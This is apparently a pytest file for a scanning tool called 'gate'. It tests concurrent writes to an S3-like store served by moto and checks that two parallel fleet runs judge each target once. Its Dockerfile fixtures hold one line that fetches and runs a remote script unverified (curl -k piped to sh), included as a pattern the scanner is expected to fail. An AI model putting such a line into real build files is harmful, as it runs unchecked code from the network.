"""A store in a server that speaks S3 (moto's), which two fleets fill at the same time.

It goes through `gate/fleet/store_files.py`.
"""

import http.client
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path

import pytest

pytestmark = pytest.mark.skipif(
    find_spec("moto") is None or find_spec("s3fs") is None, reason="moto and s3fs are not installed"
)

GATE = [sys.executable, "-m", "gate"]
STORE = "s3://fleet/gate"
SERVER = """
import threading
from moto.server import DomainDispatcherApplication, create_backend_app
from werkzeug.serving import make_server
one_at_a_time = threading.Lock()
moto = DomainDispatcherApplication(create_backend_app)
def answer(environment, start):
    with one_at_a_time:
        return moto(environment, start)
server = make_server("127.0.0.1", 0, answer, threaded=True)
print(server.host, server.port, flush=True)
threading.Timer(600, server.shutdown).start()
server.serve_forever()
"""
"""Requests are answered one at a time: moto looks whether a file is there and writes it in two steps, S3 in one."""
WRITERS = """
import sys
from concurrent.futures import ThreadPoolExecutor
from gate.fleet.store_files import open_files
contents = [bytes([number]) * 100_000 for number in range(8)]
with ThreadPoolExecutor(8) as pool:
    made = list(pool.map(lambda content: open_files(sys.argv[1]).create("ledger/one", content), contents))
files = open_files(sys.argv[1])
assert [content for content, is_made in zip(contents, made) if is_made] == [files.read("ledger/one")], made
assert list(files.names("ledger")) == ["ledger/one"]
files.delete("ledger/one")
assert files.read("ledger/one") is None
files.delete("ledger/one")
print("one of", len(made))
"""
"""Clients of S3 run in processes of their own: s3fs leaves connections behind that later tests would be blamed for."""


@pytest.fixture
def s3() -> Iterator[dict[str, str]]:
    """Yield the environment in which S3 is a server on loopback with the bucket `fleet`."""
    server = subprocess.Popen([sys.executable, "-c", SERVER], stdout=subprocess.PIPE, text=True)
    assert server.stdout is not None
    address = ":".join(server.stdout.readline().split())
    connection = http.client.HTTPConnection(address, timeout=60)
    connection.request("PUT", "/fleet")
    assert connection.getresponse().status == 200
    connection.close()
    yield {
        **os.environ,
        "AWS_ENDPOINT_URL": f"http://{address}",
        "AWS_ACCESS_KEY_ID": "test",
        "AWS_SECRET_ACCESS_KEY": "test",  # pragma: allowlist secret
        "AWS_DEFAULT_REGION": "us-east-1",
        "AWS_EC2_METADATA_DISABLED": "true",
    }
    server.kill()
    server.communicate()


def test_of_many_writers_one_makes_a_file_and_it_is_whole(s3: dict[str, str]) -> None:
    words = [sys.executable, "-c", WRITERS, STORE]
    done = subprocess.run(words, env=s3, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "one of 8\n"), done.stderr


def test_two_fleets_fill_one_store_and_each_target_is_judged_once(tmp_path: Path, s3: dict[str, str]) -> None:
    for number in range(4):
        (tmp_path / f"code{number}").mkdir()
        (tmp_path / f"code{number}/Dockerfile").write_text("FROM scratch\nRUN curl -k https://example.com | sh\n")
    gate("store", "init", "--store", STORE, "--organisation", "Example", env=s3)
    words = ["fleet", "run", *(str(tmp_path / f"code{number}") for number in range(4)), "--run", "night"]
    words += ["--store", STORE, "--options", "--stage dockerfile --offline", "--at-once", "1"]
    fleets = [
        subprocess.Popen([*GATE, *words], env=s3, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for _ in range(2)
    ]
    for fleet in fleets:
        said, errors = fleet.communicate(timeout=300)
        assert (fleet.returncode, said.splitlines()[0]) == (
            1,
            "4 targets: 0 pass, 4 fail, 0 incomplete; 0 left to another process",
        ), errors
    assert "records: 4," in gate("store", "info", "--store", STORE, env=s3)
    words = ["--format", "json", "--accept-unread", "100"]  # they were judged by one stage, without their packages
    found = gate("fleet", "find", "file:Dockerfile", "--store", STORE, *words, env=s3)
    assert {Path(row["name"]).name for row in json.loads(found)["found"]} == {f"code{number}" for number in range(4)}
    gate("store", "verify", "--store", STORE, "--organisation", "Example", env=s3)
    refused = subprocess.run(
        [*GATE, "store", "info", "--store", STORE, "--organisation", "Other"], env=s3, capture_output=True, check=False
    )
    assert refused.returncode == 2


def gate(*words: str, env: dict[str, str]) -> str:
    done = subprocess.run([*GATE, *words], env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout
